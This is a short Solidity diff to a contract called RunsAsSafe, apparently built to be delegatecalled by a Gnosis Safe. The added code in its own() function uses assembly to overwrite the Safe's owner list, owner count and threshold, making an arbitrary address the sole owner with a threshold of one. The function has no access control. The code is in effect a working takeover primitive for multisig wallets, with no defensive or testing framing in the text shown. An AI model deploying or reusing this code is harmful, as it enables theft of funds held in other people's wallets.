@@ -94,10 +94,14 @@ contract RunsAsSafe {
         return true;
     }
 
+    /// The only owner from now on; slots 2 to 4 of a Safe are the list, its length and the threshold.
     function own(address owner) external {
-        bytes32 place = keccak256(abi.encode(address(1), uint256(2)));
+        bytes32 first = keccak256(abi.encode(address(1), uint256(2)));
+        bytes32 second = keccak256(abi.encode(owner, uint256(2)));
         assembly {
-            sstore(place, owner)
+            sstore(first, owner)
+            sstore(second, 1)
+            sstore(3, 1)
             sstore(4, 1)
         }
     }
